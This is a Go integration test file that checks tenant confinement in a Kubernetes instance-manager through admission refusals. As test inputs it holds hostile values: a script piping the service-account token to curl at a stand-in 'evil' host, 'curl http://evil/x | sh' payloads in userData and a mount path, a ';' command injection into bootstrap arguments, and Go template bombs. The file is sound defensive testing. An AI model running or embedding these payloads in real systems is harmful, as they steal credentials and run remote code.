package integration

// Tenant confinement (issue 11), through the real API server, as tenants
// whose RBAC covers InstanceGroups in their own namespace only.

import (
	"context"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/util/retry"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/instancemgr/instance-manager/api/v1alpha1"
	"github.com/instancemgr/instance-manager/app"
)

// withShared returns the example ConfigMap with paths added to
// shared.replace: the admin opens them to tenants explicitly.
func withShared(t *testing.T, paths ...string) map[string]string {
	t.Helper()
	data := exampleConfigMapData(t)
	extra := ""
	for _, p := range paths {
		extra += "  - " + p + "\n"
	}
	b := strings.Replace(data["boundaries"], "  - spec.strategy\n", "  - spec.strategy\n"+extra, 1)
	if b == data["boundaries"] {
		t.Fatalf("the example ConfigMap has no shared.replace list to extend:\n%s", data["boundaries"])
	}
	data["boundaries"] = b
	return data
}

// uniqueNamespace names a fresh namespace for one run of a test, so that
// a rerun in the same environment (-count, a retry) never meets the groups
// an earlier run left behind.
func uniqueNamespace(prefix string) string {
	return fmt.Sprintf("%s-%d", prefix, time.Now().UnixNano()%1_000_000_000)
}

// underBoundaries starts a test of tenant confinement: the boundary
// ConfigMap set to data (nil: the example), put back to the example when
// the test ends, and the tenant user of namespace ns.
func underBoundaries(t *testing.T, data map[string]string, user, ns string) (*WithT, context.Context, *tenant) {
	t.Helper()
	if data == nil {
		mustSetConfigMap(t, exampleConfigMapData(t))
	} else {
		mustSetConfigMap(t, data)
		t.Cleanup(func() { mustSetConfigMap(t, exampleConfigMapData(t)) })
	}
	return NewWithT(t), context.Background(), newTenant(t, user, ns)
}

func crdIG(namespace, name, template string) *v1alpha1.InstanceGroup {
	ig := shortIG(namespace, name)
	ig.Spec.Strategy = v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyCRD, CRD: &v1alpha1.CRDUpgradeStrategy{
		CRDName: "rollingupgrades", StatusJSONPath: ".status.currentStatus", StatusSuccessString: "completed", StatusFailureString: "error",
		Spec: template,
	}}
	return ig
}

// withCRDStrategy returns the example ConfigMap with the crd strategy
// opted in to RollingUpgrade as examples/eks-crd-strategy.yaml's comment
// shows (its "#   crdStrategy: |" block).
func withCRDStrategy(t *testing.T) map[string]string {
	t.Helper()
	raw, err := os.ReadFile(examplePath("eks-crd-strategy.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	block := ""
	in := false
	for _, line := range strings.Split(string(raw), "\n") {
		switch {
		case line == "#   crdStrategy: |":
			in = true
		case in && strings.HasPrefix(line, "#     "):
			block += strings.TrimPrefix(line, "#     ") + "\n"
		case in:
			in = false
		}
	}
	if !strings.Contains(block, "kind: RollingUpgrade") {
		t.Fatalf("examples/eks-crd-strategy.yaml shows no crdStrategy opt-in:\n%s", raw)
	}
	data := exampleConfigMapData(t)
	data["crdStrategy"] = block
	return data
}

// ruTemplate is a RollingUpgrade in namespace ns with extra spec lines.
func ruTemplate(ns, spec string) string {
	return "apiVersion: upgrademgr.keikoproj.io/v1alpha1\nkind: RollingUpgrade\nmetadata:\n  name: rollup-nodes\n  namespace: " + ns +
		"\nspec:\n  asgName: ${.status.activeScalingGroupName}\n  nodeIntervalSeconds: 30\n" + spec
}

// Attack 01 (N1), Section 3 (absent crdStrategy): under the example
// ConfigMap (no crdStrategy) the crd strategy creates nothing, not even upgrade-manager's
// RollingUpgrade, whose controller runs scripts.
func TestTenantCRDStrategyIsAdminOnlyByDefault(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-crd-default")
	g, ctx, tn := underBoundaries(t, nil, "crd-default-tenant", ns)
	err := tn.client.Create(ctx, crdIG(ns, "rollup", ruTemplate(ns, "")))
	g.Expect(err).To(MatchError(And(
		ContainSubstring("spec.strategy.crd.spec"),
		ContainSubstring("kind RollingUpgrade.upgrademgr.keikoproj.io is not allowed by the boundary ConfigMap's crdStrategy.allowedKinds (allowed: none)"))))
}

// Section 3 (crdStrategy kinds): the admin cannot share a field
// upgrade-manager executes (an unreviewed kind is warned:
// TestSection3UnreviewedCRDKindIsWarned).
func TestAdminCannotShareRollingUpgradeScripts(t *testing.T) {
	requireEnv(t)
	g := NewWithT(t)
	data := exampleConfigMapData(t)
	data["crdStrategy"] = "allowedKinds: [{group: upgrademgr.keikoproj.io, kind: RollingUpgrade, tenantFields: [spec]}]"
	err := setConfigMap(context.Background(), data)
	g.Expect(err).To(MatchError(ContainSubstring(`data.crdStrategy.allowedKinds[0].tenantFields[0]: "spec" covers spec.preDrain.script, which the RollingUpgrade.upgrademgr.keikoproj.io controller runs as a command`)))
}

// With RollingUpgrade allowed: the review's attacks 01 to 04 are refused at
// admission, naming spec.strategy.crd.spec, and the webhooks keep serving.
func TestTenantCRDTemplateIsConfined(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-crd")
	g, ctx, tn := underBoundaries(t, withCRDStrategy(t), "crd-tenant", ns)
	dryRun := client.DryRunAll

	err := tn.client.Create(ctx, crdIG(ns, "other-namespace", ruTemplate("kube-system", "")))
	g.Expect(err).To(MatchError(And(
		ContainSubstring("spec.strategy.crd.spec"),
		ContainSubstring(`metadata.namespace "kube-system" is not the group's namespace "`+ns+`"`))))

	victim := "apiVersion: instancemgr.keikoproj.io/v1alpha1\nkind: InstanceGroup\nmetadata: {name: payments-nodes}\nspec: {provisioner: eks}\n"
	err = tn.client.Create(ctx, crdIG(ns, "another-kind", victim))
	g.Expect(err).To(MatchError(ContainSubstring("kind InstanceGroup.instancemgr.keikoproj.io is not allowed by the boundary ConfigMap's crdStrategy.allowedKinds (allowed: RollingUpgrade.upgrademgr.keikoproj.io)")))

	// Attack 01: shell in upgrade-manager's pod, with its credentials.
	for name, spec := range map[string]string{
		"preDrain":      "  preDrain:\n    script: cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- http://evil\n",
		"postDrain":     "  postDrain:\n    script: id\n    postWaitScript: id\n",
		"postTerminate": "  postTerminate: {script: id}\n",
	} {
		err = tn.client.Create(ctx, crdIG(ns, "script-"+strings.ToLower(name), ruTemplate(ns, spec)), dryRun)
		g.Expect(err).To(MatchError(And(ContainSubstring("spec.strategy.crd.spec"),
			ContainSubstring("spec."+name+".script may not be set: the RollingUpgrade.upgrademgr.keikoproj.io controller runs"))), name)
	}
	// Attack 02: rotate another group's (or the system's) Auto Scaling group.
	foreign := strings.Replace(ruTemplate(ns, ""), "${.status.activeScalingGroupName}", "eks-system-nodes-1a2b3c", 1)
	err = tn.client.Create(ctx, crdIG(ns, "foreign-asg", foreign), dryRun)
	g.Expect(err).To(MatchError(ContainSubstring("spec.asgName must be ${.status.activeScalingGroupName} (the group's own resource) or left out for the controller to fill")))
	// A field the admin did not share (terminate undrained nodes).
	err = tn.client.Create(ctx, crdIG(ns, "undrained", ruTemplate(ns, "  ignoreDrainFailures: true\n")), dryRun)
	g.Expect(err).To(MatchError(ContainSubstring("spec.ignoreDrainFailures is not a field the boundary ConfigMap lets tenants set")))

	// Attack 03: template bombs at admission (a server dry run is enough)
	// are refused at once: Go templates are not evaluated any more.
	doubling := "{{$a := \"0123456789abcdef\"}}" + strings.Repeat(`{{$a = printf "%s%s" $a $a}}`, 30) + "{{$a}}"
	bombs := map[string]string{
		"doubling": ruTemplate(ns, "  strategy:\n    mode: "+doubling+"\n"),
		"js":       ruTemplate(ns, "  strategy:\n    mode: {{"+strings.Repeat("js (", 30)+`"\\"`+strings.Repeat(")", 30)+"}}\n"),
		"range":    "apiVersion: v1\nkind: ConfigMap\ndata:\n{{range 100000000}}  x: y\n{{end}}",
		"printf":   "apiVersion: v1\nkind: ConfigMap\ndata:\n  x: {{printf \"%999999999d\" 1}}\n",
	}
	for name, bomb := range bombs {
		start := time.Now()
		err = tn.client.Create(ctx, crdIG(ns, "bomb-"+name, bomb), dryRun)
		g.Expect(err).To(MatchError(And(ContainSubstring("spec.strategy.crd.spec"), ContainSubstring("Go templates are no longer accepted"))), name)
		g.Expect(time.Since(start)).To(BeNumerically("<", 5*time.Second), name)
	}

	// Attack 04: the bomb behind a status branch, which admission used to
	// render with an empty status. Refused on create and on update of an
	// admitted group; the admitted group renders the same either way.
	guarded := ruTemplate(ns, "  strategy:\n    mode: {{if .InstanceGroup.Status.ActiveScalingGroupName}}"+doubling+"{{end}}\n")
	err = tn.client.Create(ctx, crdIG(ns, "guarded", guarded))
	g.Expect(err).To(MatchError(ContainSubstring("Go templates are no longer accepted")))
	g.Expect(tn.client.Create(ctx, crdIG(ns, "own-namespace", ruTemplate(ns, "  strategy: {mode: eager}\n")))).To(Succeed(),
		"a RollingUpgrade of the group's own Auto Scaling group, with the fields the admin shares, is what the crd strategy is for")
	err = retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &v1alpha1.InstanceGroup{}
		if err := tn.client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "own-namespace"}, cur); err != nil {
			return err
		}
		cur.Spec.Strategy.CRD.Spec = guarded
		return tn.client.Update(ctx, cur)
	})
	g.Expect(err).To(MatchError(ContainSubstring("Go templates are no longer accepted")))
	g.Expect(tn.client.Create(ctx, shortIG(ns, "after-the-bombs"))).To(Succeed(), "the manager still admits groups")
}

func TestTenantRestrictedPathWithoutDefault(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-nodefault")
	g, ctx, tn := underBoundaries(t, nil, "nodefault-tenant", ns)

	// Warn mode (the example): userData, which the example ConfigMap does
	// not name, is admin-only: dropped with a warning. So is a behaviour
	// annotation the ConfigMap does not share.
	ig := shortIG(ns, "wants-user-data")
	ig.Annotations = map[string]string{v1alpha1.AnnotationLockUpgrades: "true"}
	ig.Spec.EKS.Configuration.UserData = []v1alpha1.UserDataStage{{Name: "x", Stage: "PreBootstrap", Data: "curl http://evil/x | sh"}}
	ig.Spec.EKS.Configuration.ManagedPolicies = []string{"AdministratorAccess"}
	tn.warnings.take()
	g.Expect(tn.client.Create(ctx, ig)).To(Succeed())
	g.Expect(tn.warnings.take()).To(ContainElements(
		ContainSubstring("spec.eks.configuration.userData is restricted by ConfigMap instance-manager/instance-manager (a security-sensitive path, admin-only unless the ConfigMap shares it) and has no default"),
		ContainSubstring("spec.eks.configuration.managedPolicies is restricted"),
		ContainSubstring("metadata.annotations[instancemgr.keikoproj.io/lock-upgrades] is restricted")))
	stored := getIG(t, ns, "wants-user-data")
	g.Expect(stored.Spec.EKS.Configuration.UserData).To(BeEmpty())
	g.Expect(stored.Spec.EKS.Configuration.ManagedPolicies).To(BeEmpty())
	g.Expect(stored.Annotations).NotTo(HaveKey(v1alpha1.AnnotationLockUpgrades))

	// Deny mode: the same request is refused, naming the path.
	data := exampleConfigMapData(t)
	data["enforcement"] = "deny"
	mustSetConfigMap(t, data)
	defer mustSetConfigMap(t, exampleConfigMapData(t))
	ig = shortIG(ns, "denied-user-data")
	ig.Spec.EKS.Configuration.UserData = []v1alpha1.UserDataStage{{Name: "x", Stage: "PreBootstrap", Data: "curl http://evil/x | sh"}}
	err := tn.client.Create(ctx, ig)
	g.Expect(err).To(MatchError(And(
		ContainSubstring("spec.eks.configuration.userData is restricted by ConfigMap instance-manager/instance-manager"),
		ContainSubstring("allowed: leave it unset"))))
}

func TestTenantCannotClaimOwnershipTagsReservedLabelsOrShell(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-shell")
	// The admin shares volumes and bootstrap arguments: validation still
	// refuses what would reach a shell line.
	g, ctx, tn := underBoundaries(t, withShared(t, "spec.eks.configuration.volumes", "spec.eks.configuration.bootstrapArguments"), "shell-tenant", ns)

	cases := map[string]struct {
		edit func(*v1alpha1.EKSConfiguration)
		want string
	}{
		"ownership tag": {func(c *v1alpha1.EKSConfiguration) {
			c.Tags = []map[string]string{{"key": "instancemgr.keikoproj.io/instancegroup", "value": "payments/web"}}
		}, "tag keys starting with instancemgr.keikoproj.io/ are set by instance-manager"},
		"reserved label": {func(c *v1alpha1.EKSConfiguration) {
			c.Labels = map[string]string{"node-role.kubernetes.io/control-plane": ""}
		}, "the kubernetes.io/ and k8s.io/ prefixes are reserved"},
		"another group's label": {func(c *v1alpha1.EKSConfiguration) {
			c.Labels = map[string]string{v1alpha1.LabelInstanceGroupNamespace: "payments"}
		}, "the instancemgr.keikoproj.io/ prefix is reserved"},
		"shell in a mount path": {func(c *v1alpha1.EKSConfiguration) {
			c.Volumes = []v1alpha1.NodeVolume{{Name: "/dev/xvdb", Size: 10, MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data; curl http://evil/x | sh #"}}}
		}, "spec.eks.configuration.volumes[0].mountOptions.mount"},
		"shell in bootstrap arguments": {func(c *v1alpha1.EKSConfiguration) {
			c.BootstrapArguments = "--kubelet-extra-args '--v=2' ; id > /tmp/pwned"
		}, "shell metacharacter ';' is not allowed in bootstrapArguments"},
		"taints removed through kubelet flags": {func(c *v1alpha1.EKSConfiguration) {
			c.BootstrapArguments = "--kubelet-extra-args '--register-with-taints='"
		}, "kubelet flag --register-with-taints cannot be set through bootstrapArguments"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			ig := shortIG(ns, "hostile")
			tc.edit(ig.Spec.EKS.Configuration)
			err := tn.client.Create(ctx, ig)
			g.Expect(err).To(MatchError(And(ContainSubstring("InstanceGroup "+ns+"/hostile"), ContainSubstring(tc.want))))
		})
	}
	// The same fields with safe values are the tenant's to set.
	ig := shortIG(ns, "fine")
	ig.Spec.EKS.Configuration.BootstrapArguments = "--kubelet-extra-args=--v=2"
	ig.Spec.EKS.Configuration.Volumes = []v1alpha1.NodeVolume{{Name: "/dev/xvdb", Size: 10, MountOptions: &v1alpha1.NodeVolumeMountOptions{FileSystem: "xfs", Mount: "/data"}}}
	g.Expect(tn.client.Create(ctx, ig)).To(Succeed())
	g.Expect(getIG(t, ns, "fine").Spec.EKS.Configuration.BootstrapArguments).To(Equal("--kubelet-extra-args=--v=2"))
}

func TestSwitchingProvisionerDoesNotEscapeARule(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-switch")
	data := exampleConfigMapData(t)
	data["enforcement"] = "deny"
	g, ctx, tn := underBoundaries(t, data, "switch-tenant", ns)

	managed := &v1alpha1.InstanceGroup{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "managed"},
		Spec: v1alpha1.InstanceGroupSpec{Provisioner: v1alpha1.ProvisionerEKSManaged, Strategy: v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyManaged},
			EKSManaged: &v1alpha1.EKSManagedSpec{MinSize: 1, MaxSize: 2, Configuration: &v1alpha1.EKSManagedConfiguration{
				ClusterName: "prod", Subnets: []string{"subnet-mine"}, InstanceType: "m5.large",
			}}},
	}
	err := tn.client.Create(ctx, managed)
	g.Expect(err).To(MatchError(And(
		ContainSubstring(`spec.eks-managed.configuration.clusterName is restricted by ConfigMap instance-manager/instance-manager (allowed value: "a-managed-cluster"`),
		ContainSubstring("spec.eks-managed.configuration.subnets is restricted"))))

	// Without the restricted fields the group gets the admin's values.
	managed.Spec.EKSManaged.Configuration.ClusterName, managed.Spec.EKSManaged.Configuration.Subnets = "", nil
	g.Expect(tn.client.Create(ctx, managed)).To(Succeed())
	c := getIG(t, ns, "managed").Spec.EKSManaged.Configuration
	g.Expect(c.ClusterName).To(Equal("a-managed-cluster"))
	g.Expect(c.Subnets).To(Equal([]string{"subnet-1234", "subnet-2345", "subnet-3456"}))

	// Fargate: the rule follows too, and selectors stay in the namespace.
	fargate := &v1alpha1.InstanceGroup{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "fargate"},
		Spec: v1alpha1.InstanceGroupSpec{Provisioner: v1alpha1.ProvisionerEKSFargate, Strategy: v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyManaged},
			EKSFargate: &v1alpha1.EKSFargateSpec{Selectors: []v1alpha1.EKSFargateSelector{{Namespace: "kube-system"}}}},
	}
	err = tn.client.Create(ctx, fargate)
	g.Expect(err).To(MatchError(ContainSubstring(`spec.eks-fargate.selectors[0].namespace: Forbidden: "kube-system" is not the group's namespace`)))
}

func TestBoundaryConfigMapCannotBeDeletedWhileGroupsExist(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-cm")
	g, ctx, tn := underBoundaries(t, nil, "cm-tenant", ns)
	g.Expect(tn.client.Create(ctx, shortIG(ns, "keeps-the-boundaries"))).To(Succeed())

	cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: configNamespace, Name: app.ConfigMapName}}
	err := admin.Delete(ctx, cm)
	// The message names the first groups it finds and counts the rest:
	// other tests' groups may come before this one.
	g.Expect(err).To(MatchError(And(
		ContainSubstring("ConfigMap instance-manager/instance-manager holds the boundaries of"),
		Or(ContainSubstring(ns+"/keeps-the-boundaries"), MatchRegexp(`, and \d+ more\)`)),
		ContainSubstring("cannot be deleted while they exist"))))
	g.Expect(admin.Get(ctx, client.ObjectKeyFromObject(cm), cm)).To(Succeed())
}

func TestQuotaIsEnforced(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-quota")
	data := exampleConfigMapData(t)
	data["quotas"] = "namespaces:\n  " + ns + ": {maxGroups: 1, maxSize: 4, instanceTypes: [\"m5.*\"]}\n"
	g, ctx, tn := underBoundaries(t, data, "quota-tenant", ns)

	big := shortIG(ns, "too-big")
	big.Spec.EKS.MaxSize = 50
	g.Expect(tn.client.Create(ctx, big)).To(MatchError(ContainSubstring("quota exceeded: spec.eks.maxSize: 50 is above quotas.namespaces." + ns + ".maxSize (4)")))
	gpu := shortIG(ns, "gpu")
	gpu.Spec.EKS.Configuration.InstanceType = "p5.48xlarge"
	g.Expect(tn.client.Create(ctx, gpu)).To(MatchError(ContainSubstring(`instance type "p5.48xlarge" is not allowed by quotas.namespaces.` + ns + `.instanceTypes (m5.*)`)))

	g.Expect(tn.client.Create(ctx, shortIG(ns, "first"))).To(Succeed())
	err := tn.client.Create(ctx, shortIG(ns, "second"))
	g.Expect(err).To(MatchError(ContainSubstring("2 InstanceGroups in namespace " + ns + " would be above quotas.namespaces." + ns + ".maxGroups (1)")))
	// An update of the one group is within the quota.
	patch := client.RawPatch("application/merge-patch+json", []byte(`{"spec":{"eks":{"maxSize":4}}}`))
	g.Expect(tn.client.Patch(ctx, shortIG(ns, "first"), patch)).To(Succeed())
}

func TestSpecEditsOnADeletingGroupAreRefused(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-deleting")
	g, ctx, tn := underBoundaries(t, nil, "deleting-tenant", ns)

	ig := shortIG(ns, "going")
	ig.Finalizers = []string{"example.com/hold"} // the tenant's own, so the group stays while deleting
	g.Expect(tn.client.Create(ctx, ig)).To(Succeed())
	g.Expect(tn.client.Delete(ctx, ig)).To(Succeed())

	patch := client.RawPatch("application/merge-patch+json", []byte(`{"spec":{"provisioner":"eks-fargate"}}`))
	err := tn.client.Patch(ctx, shortIG(ns, "going"), patch)
	g.Expect(err).To(MatchError(ContainSubstring("InstanceGroup " + ns + "/going is being deleted: spec changes are refused")))

	// Metadata still changes: the tenant lets its finalizer go. The
	// controller's own finalizer, if it added one, is removed by the
	// controller; the group may be gone by the time this patch lands.
	// The controller removes its finalizer concurrently: retry a conflict
	// on the newest version.
	err = retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &v1alpha1.InstanceGroup{}
		if err := tn.client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "going"}, cur); err != nil {
			return err
		}
		var keep []string
		for _, f := range cur.Finalizers {
			if f != "example.com/hold" {
				keep = append(keep, f)
			}
		}
		cur.Finalizers = keep
		return tn.client.Update(ctx, cur)
	})
	g.Expect(client.IgnoreNotFound(err)).To(Succeed())
}

// Attack 09 (N6), Section 3 (maxTotalVCPU without maxSize): under a namespace
// entry without maxSize, only a vCPU budget bounds a tenant; a maxSize of
// 2^61+512 used to overflow the vCPU sum to a negative (admitted, and
// every later group of every namespace passed the total) and reach AWS
// truncated to 512. The API server refuses it now (the CRD's maximum),
// naming the field and the range.
func TestSizeBeyondInt32IsRefused(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-overflow")
	data := exampleConfigMapData(t)
	data["quotas"] = "namespaces:\n  " + ns + ": {maxGroups: 10, maxTotalVCPU: 64}\n"
	g, ctx, tn := underBoundaries(t, data, "overflow-tenant", ns)

	huge := shortIG(ns, "huge")
	huge.Spec.EKS.MaxSize = 1<<61 + 512
	err := tn.client.Create(ctx, huge)
	g.Expect(err).To(MatchError(And(ContainSubstring("spec.eks.maxSize"), ContainSubstring("2147483647"))))
	g.Expect(tn.client.Create(ctx, shortIG(ns, "fits"))).To(Succeed(), "the namespace's vCPU sum was not poisoned")
}

// Security review N13 (the strategy part): the admin can always tighten the
// crd strategy; existing groups do not veto it and are not frozen by it:
// their other edits go through, a new template is judged by the new rules,
// and the reconciler refuses the old one before its next submission
// (reconciler/upgrade's TestCRDStrategyIsConfined).
func TestAdminCanTightenTheCRDStrategy(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-crd-tighten")
	g, ctx, tn := underBoundaries(t, withCRDStrategy(t), "crd-tighten-tenant", ns)
	g.Expect(tn.client.Create(ctx, crdIG(ns, "rollup", ruTemplate(ns, "  strategy: {mode: eager}\n")))).To(Succeed())

	g.Expect(setConfigMap(ctx, exampleConfigMapData(t))).To(Succeed(), "a group using the crd strategy does not veto withdrawing it")
	mustSetConfigMap(t, exampleConfigMapData(t))
	edit := func(change func(*v1alpha1.InstanceGroup)) error {
		return retry.RetryOnConflict(retry.DefaultRetry, func() error {
			cur := &v1alpha1.InstanceGroup{}
			if err := tn.client.Get(ctx, client.ObjectKey{Namespace: ns, Name: "rollup"}, cur); err != nil {
				return err
			}
			change(cur)
			return tn.client.Update(ctx, cur)
		})
	}
	g.Expect(edit(func(ig *v1alpha1.InstanceGroup) { ig.Spec.EKS.MaxSize = 4 })).To(Succeed(), "an edit that keeps the template")
	err := edit(func(ig *v1alpha1.InstanceGroup) {
		ig.Spec.Strategy.CRD.Spec = ruTemplate(ns, "  strategy: {mode: lazy}\n")
	})
	g.Expect(err).To(MatchError(And(ContainSubstring("spec.strategy.crd.spec"),
		ContainSubstring("kind RollingUpgrade.upgrademgr.keikoproj.io is not allowed by the boundary ConfigMap's crdStrategy.allowedKinds (allowed: none)"))))
}

// Finding N30 (review 2026-11-29): an eks-managed group also takes its
// instance types as a list (instanceTypes) and its labels under the
// deprecated nodeLabels, and the rules on instanceType and labels did not
// follow to those aliases: a tenant under restricted instanceType asked
// for any type through the list. In deny mode the create is refused
// naming the alias; without it the group gets the admin's type.
func TestManagedAliasesDoNotEscapeARule(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-alias")
	data := exampleConfigMapData(t)
	data["enforcement"] = "deny"
	restricted := strings.Replace(data["boundaries"], "restricted:\n", "restricted:\n- spec.eks.configuration.instanceType\n", 1)
	defaults := strings.Replace(data["defaults"], "  eks:\n    configuration:\n", "  eks:\n    configuration:\n      instanceType: m5.large\n", 1)
	if restricted == data["boundaries"] || defaults == data["defaults"] {
		t.Fatalf("the example ConfigMap changed shape: boundaries %q, defaults %q", data["boundaries"], data["defaults"])
	}
	data["boundaries"], data["defaults"] = restricted, defaults
	g, ctx, tn := underBoundaries(t, data, "alias-tenant", ns)

	managed := &v1alpha1.InstanceGroup{
		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "managed"},
		Spec: v1alpha1.InstanceGroupSpec{Provisioner: v1alpha1.ProvisionerEKSManaged, Strategy: v1alpha1.AwsUpgradeStrategy{Type: v1alpha1.StrategyManaged},
			EKSManaged: &v1alpha1.EKSManagedSpec{MinSize: 1, MaxSize: 2, Configuration: &v1alpha1.EKSManagedConfiguration{
				InstanceTypes: []string{"m5.24xlarge"},
			}}},
	}
	err := tn.client.Create(ctx, managed)
	g.Expect(err).To(MatchError(ContainSubstring("spec.eks-managed.configuration.instanceTypes is restricted")))

	managed.Spec.EKSManaged.Configuration.InstanceTypes = nil
	g.Expect(tn.client.Create(ctx, managed)).To(Succeed())
	c := getIG(t, ns, "managed").Spec.EKSManaged.Configuration
	g.Expect(c.InstanceType).To(Equal("m5.large"))
	g.Expect(c.InstanceTypes).To(BeEmpty())
}

// Finding N31 (review 2026-11-29): with the VPC CNI's custom networking,
// the ENIConfig label of a node picks its pods' subnet and security
// groups; a tenant labelled its group's nodes with another team's
// ENIConfig. The create is refused naming the label.
func TestNetworkLabelsAreNotATenantsToSet(t *testing.T) {
	requireEnv(t)
	ns := uniqueNamespace("team-eniconfig")
	g, ctx, tn := underBoundaries(t, nil, "eniconfig-tenant", ns)
	ig := shortIG(ns, "borrowed-network")
	ig.Spec.EKS.Configuration.Labels = map[string]string{"k8s.amazonaws.com/eniConfig": "team-b"}
	g.Expect(tn.client.Create(ctx, ig)).To(MatchError(And(
		ContainSubstring("InstanceGroup "+ns+"/borrowed-network"),
		ContainSubstring("spec.eks.configuration.labels[k8s.amazonaws.com/eniConfig]: Forbidden"))))
}
